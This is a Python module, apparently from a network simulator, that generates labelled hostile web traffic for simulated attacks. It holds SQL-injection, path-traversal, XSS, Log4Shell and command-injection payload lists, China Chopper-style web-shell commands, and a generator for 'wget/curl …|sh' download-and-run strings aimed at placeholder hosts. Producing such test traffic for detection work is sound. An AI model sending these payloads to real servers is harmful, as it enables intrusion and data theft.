"""Web attacks: hostile requests to a web server."""

from __future__ import annotations

import base64
import random
from typing import Literal
from urllib.parse import quote

from infraspectre.simulation.activities import web
from infraspectre.simulation.capture import Behaviour
from infraspectre.simulation.drawing import word
from infraspectre.simulation.hosts import Host
from infraspectre.simulation.protocols.http import BROWSER
from infraspectre.simulation.scenarios.background import lively_site
from infraspectre.simulation.site import Site

Kind = Literal["mixed", "injection", "traversal", "scripting", "commands", "scanner", "shell"]
INJECTIONS = (
    "/item.php?id=1%27%20OR%20%271%27=%271", "/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/item.php?id=1;%20DROP%20TABLE%20users--", "/item.php?id=1%20AND%20SLEEP(5)--",
    "/item.php?id=-1%27%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x71,version())--%20-",
)  # fmt: skip
TRAVERSALS = (
    "/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fshadow",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/view?page=....//....//....//windows/win.ini",
)  # fmt: skip
SCRIPTS = (
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/c?name=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
    "/u?next=javascript:alert(1)", "/post?t=%3Csvg/onload=fetch(%27//x.example/%27)%3E",
)  # fmt: skip
COMMANDS = (
    "/ping?host=127.0.0.1;cat%20/etc/passwd", "/?x=${jndi:ldap://192.0.2.66:1389/a}", "/cgi-bin/test.cgi?%24%28id%29",
    "/tools/trace?ip=%7Cwhoami", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
)  # fmt: skip
PROBES = (
    "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/admin/config.php", "/server-status", "/backup.zip",
    "/actuator/health", "/api/v1/users", "/solr/admin/info/system", "/manager/html", "/xmlrpc.php",
)  # fmt: skip
SCANNERS = (
    "sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6",
)  # fmt: skip
TECHNIQUES: dict[Kind, tuple[str, ...]] = {
    "mixed": ("T1190", "T1595.002"),
    "injection": ("T1190",),
    "traversal": ("T1190", "T1083"),
    "scripting": ("T1190", "T1059.007"),
    "commands": ("T1190", "T1059.004"),
    "scanner": ("T1595.002", "T1595.003"),
    "shell": ("T1505.003",),
}
SHELL_COMMANDS = ("whoami", "net user", "ipconfig /all", "dir C:\\Users", "type C:\\inetpub\\web.config", "id;uname -a")
_PAYLOADS = {"injection": INJECTIONS, "traversal": TRAVERSALS, "scripting": SCRIPTS, "commands": COMMANDS}
_COLUMNS = ("name", "password", "email", "token", "card", "created")


def strike(
    site: Site,
    rng: random.Random,
    kind: Kind,
    attacker: Host,
    victim: Host,
    requests: int,
    begin_s: float,
    end_s: float,
) -> Behaviour:
    """Send so many hostile requests of a kind, evenly over the span."""
    name = "web attack" if kind == "mixed" else f"web attack by {kind}"
    behaviour = Behaviour(
        name, "web-attack", TECHNIQUES[kind], [attacker.ip], [victim.ip],
        parameters={"requests": requests, "gap_s": (end_s - begin_s) / requests},
    )  # fmt: skip
    agent, shell = rng.choice((BROWSER, BROWSER, *SCANNERS)), f"/uploads/{word(rng, 2)}.php"
    with site.behaving(behaviour):
        for number in range(requests):
            at = begin_s + (end_s - begin_s) * (number + rng.random()) / requests
            if kind == "shell":
                web.attack(site, attacker, victim, at, shell, BROWSER, 200, _order(rng))
            elif kind == "scanner" or (kind == "mixed" and number % 3):
                _probe(site, rng, attacker, victim, at)
            else:
                status = rng.choice((200, 200, 403, 500))
                web.attack(site, attacker, victim, at, hostile_target(rng, kind), agent, status)
    return behaviour


def _order(rng: random.Random) -> bytes:
    """Encode a command as web shells such as China Chopper take it."""
    command = base64.b64encode(rng.choice(SHELL_COMMANDS).encode()).decode()
    return f"z0=QGluaV9zZXQo&z1={quote(command)}".encode()


def _probe(site: Site, rng: random.Random, attacker: Host, victim: Host, at: float) -> None:
    """Look for one file that may be there, known or guessed."""
    guessed = f"/{word(rng, 2)}{rng.choice(('', '/', '.php', '.bak', '.asp'))}"
    target = rng.choice(PROBES) if rng.random() < 0.6 else guessed
    web.attack(site, attacker, victim, at, target, rng.choice(SCANNERS), 404 if rng.random() < 0.95 else 200)


def hostile_target(rng: random.Random, kind: Kind) -> str:
    """Return a known hostile target, or make one with parameters of its own."""
    family = rng.choice(list(_PAYLOADS)) if kind == "mixed" else kind
    if rng.random() < 0.5:
        return rng.choice(_PAYLOADS[family])
    path = f"/{word(rng, 2)}?{word(rng, 1)}="
    match family:
        case "injection":
            number, column = rng.randrange(9_999), rng.choice(_COLUMNS)
            return path + quote(f"{number}' AND ASCII(SUBSTRING({column},{number % 20},1))>{number % 128}-- -")
        case "traversal":
            return (
                path + "../" * rng.randrange(3, 9) + rng.choice(("etc/passwd", "windows/win.ini", "proc/self/environ"))
            )
        case "scripting":
            return path + quote(f'"><script src=//{word(rng, 2)}.example/{rng.randrange(99)}.js></script>')
    return path + quote(f"{rng.randrange(99)};{rng.choice(('wget', 'curl'))} http://{word(rng, 2)}.example/x|sh")


def web_attack(
    seed: str, *, kind: Kind = "mixed", requests: int = 120, hosts: int = 6, duration_s: float = 180.0,
    background: bool = True,
) -> Site:  # fmt: skip
    """Send injections, traversals, scanners' probes or a web shell's orders from outside to the web server."""
    site = lively_site(seed, hosts, duration_s, background)
    attacker = site.outside("host-23.provider.example", "attacker")
    rng = site.derived("requests")
    strike(site, rng, kind, attacker, site.intranet, requests, duration_s * 0.2, duration_s * 0.8)
    return site
